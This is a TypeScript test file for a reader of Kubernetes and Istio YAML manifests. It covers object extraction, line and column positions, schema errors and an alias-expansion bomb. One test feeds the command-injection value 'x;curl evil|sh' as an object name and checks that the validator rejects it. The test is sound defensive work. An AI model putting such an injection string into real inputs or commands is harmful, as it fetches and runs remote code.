import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { stringify } from 'yaml'
import { stepsOf } from '#lib/checks/files/file-place.ts'
import { readManifests } from '#lib/checks/files/read-manifests.ts'

const read = (text: string) => readManifests({ path: 'a.yaml', text }, 'default')
const refs = (text: string): string[] =>
  read(text).objects.map(
    ({ object: { kind, metadata }, placeOf }) =>
      `${kind}/${metadata.namespace}/${metadata.name}:${placeOf('').line}`,
  )

describe('objects of a file', () => {
  it('are those of all documents and lists, with the namespace that they have or get', () => {
    const text = `# first
apiVersion: v1
kind: Service
metadata: { name: a }
---
apiVersion: v1
kind: List
items:
  - apiVersion: networking.istio.io/v1beta1
    kind: Sidecar
    metadata: { name: b, namespace: shop }
  - { apiVersion: v1, kind: Namespace, metadata: { name: shop, namespace: odd } }
---
apiVersion: networking.istio.io/v1
kind: WorkloadEntryList
items:
  - metadata: { name: c }
    spec: { address: 10.0.0.1 }
`
    expect(refs(text)).toEqual([
      'Service/default/a:2',
      'Sidecar/shop/b:9',
      'Namespace//shop:12',
      'WorkloadEntry/default/c:17',
    ])
  })

  it('may be JSON', () => {
    expect(refs('{"apiVersion": "v1",\n "kind": "Pod", "metadata": {"name": "a"}}')).toEqual([
      'Pod/default/a:1',
    ])
  })

  it('of other kinds, groups and versions are passed by and counted', () => {
    const others = [
      { apiVersion: 'apps/v1', kind: 'Deployment' },
      { apiVersion: 'serving.knative.dev/v1', kind: 'Service' },
      { apiVersion: 'gateway.networking.k8s.io/v1', kind: 'Gateway' },
      { apiVersion: 'networking.istio.io/v9', kind: 'Sidecar' },
      { replicas: 3 },
      'text',
      [1],
    ]
    const { objects, skipped, problems } = read(others.map((one) => stringify(one)).join('---\n'))
    expect({ objects, problems }).toEqual({ objects: [], problems: [] })
    expect(skipped).toEqual([
      'apps/v1 Deployment',
      'serving.knative.dev/v1 Service',
      'gateway.networking.k8s.io/v1 Gateway',
      'networking.istio.io/v9 Sidecar',
      '',
      '',
      '',
    ])
  })

  it('say where a field is written, or what of its path is', () => {
    const [one] = read(`apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: { name: a }
spec:
  http:
    - name: x
    - route:
        - weight: 3
`).objects
    const at = (field: string) => {
      const { line, column } = one?.placeOf(field) ?? { line: 0, column: 0 }
      return [line, column]
    }
    expect(at('spec.http[1].route[0].weight')).toEqual([8, 11])
    expect(at('spec.http[1]')).toEqual([7, 7])
    expect(at('spec.http[1].timeout')).toEqual([7, 7])
    expect(at('spec.tls[0]')).toEqual([4, 1])
    expect(at('')).toEqual([1, 1])
  })
})

describe('what can not be read', () => {
  it('names the line of bad YAML, and the documents around it are read', () => {
    const { objects, problems } = read(
      'apiVersion: v1\nkind: Pod\nmetadata: {name: a}\n---\na: [b\n---\nx: 1\nx: 2\n',
    )
    expect(objects).toHaveLength(1)
    expect(problems.map(({ place: { line }, message }) => [line, message])).toEqual([
      [6, expect.stringContaining('This is not YAML')],
      [8, expect.stringContaining('Map keys must be unique')],
    ])
  })

  it('names the field that is of the wrong shape', () => {
    const { problems } = read(
      'apiVersion: v1\nkind: Service\nmetadata: { name: a }\nspec:\n  ports:\n    - port: "80"\n',
    )
    expect(problems).toMatchObject([
      {
        place: { path: 'a.yaml', line: 6, column: 7 },
        message: 'Service a: spec.ports[0].port: Invalid input: expected number, received string',
      },
    ])
    expect(read('apiVersion: v1\nkind: Pod\n').problems[0]?.message).toContain('metadata')
  })

  it.each(['x;curl evil|sh', '--all', 'UPPER', 'a b', "it's"])('is an object that is called %s', (name) => {
    const object = (metadata: object) => JSON.stringify({ apiVersion: 'v1', kind: 'Service', metadata })
    expect(read(object({ name }))).toMatchObject({
      objects: [],
      problems: [{ message: 'Service: metadata.name is no name that Kubernetes takes' }],
    })
    expect(read(object({ name: 'a', namespace: name })).problems).toMatchObject([
      { message: expect.stringContaining('metadata.namespace') },
    ])
    expect(read(object({ name: 'a.b-1', namespace: 'shop' })).objects).toHaveLength(1)
  })

  it('is a document of aliases without end', () => {
    const rows = Array.from(
      { length: 12 },
      (_, n) => `k${n + 1}: &k${n + 1} [${Array(9).fill(`*k${n}`).join(', ')}]`,
    )
    expect(read(['k0: &k0 [1]', ...rows].join('\n')).problems).toHaveLength(1)
  })

  it('never throws, whatever the text is', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const { problems } = read(text)
        for (const { place } of problems) expect(place.line).toBeGreaterThan(0)
      }),
    )
  })
})

it('a field is read in steps', () => {
  expect(stepsOf('spec.http[0].route[12].weight')).toEqual(['spec', 'http', '0', 'route', '12', 'weight'])
  expect(stepsOf('')).toEqual([])
})
